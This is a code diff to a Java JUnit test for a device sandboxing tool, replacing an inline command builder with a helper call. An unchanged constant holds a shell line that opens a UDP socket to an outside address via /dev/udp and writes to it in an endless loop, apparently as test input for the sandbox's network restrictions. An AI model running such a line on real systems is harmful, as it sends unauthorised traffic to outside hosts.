@@ -6,9 +6,6 @@ import dev.sandbar.vdev.CommandResult;
 import dev.sandbar.vdev.VirtualDevice;
 import java.nio.file.Path;
 import java.time.Duration;
-import java.util.ArrayList;
-import java.util.List;
-import java.util.stream.Collectors;
 import org.junit.jupiter.api.Test;
 
 /** What a service of a device does, watched by the command, saved, and combined with more. */
@@ -27,20 +24,7 @@ class LearnedFilesTest {
   private static final String EXTRA = "exec 4<>/dev/udp/192.0.2.7/514; while :; do echo x >&4;";
 
   private static CommandResult sandbar(VirtualDevice device, String line) {
-    var command =
-        new ArrayList<>(
-            List.of(
-                Path.of(System.getProperty("java.home"), "bin/java").toString(),
-                "-XX:TieredStopAtLevel=1",
-                "-XX:+UseSerialGC",
-                "--enable-native-access=ALL-UNNAMED",
-                "-cp",
-                HardenedAgentTest.classPath().stream()
-                    .map(entry -> "/opt/classes" + entry.toAbsolutePath())
-                    .collect(Collectors.joining(":")),
-                "dev.sandbar.cli.Main"));
-    command.addAll(List.of(line.split(" ")));
-    return device.exec(Duration.ofSeconds(60), command.toArray(String[]::new));
+    return DeviceCli.run(device, Duration.ofSeconds(60), line);
   }
 
   private static CommandResult good(VirtualDevice device, String line) {
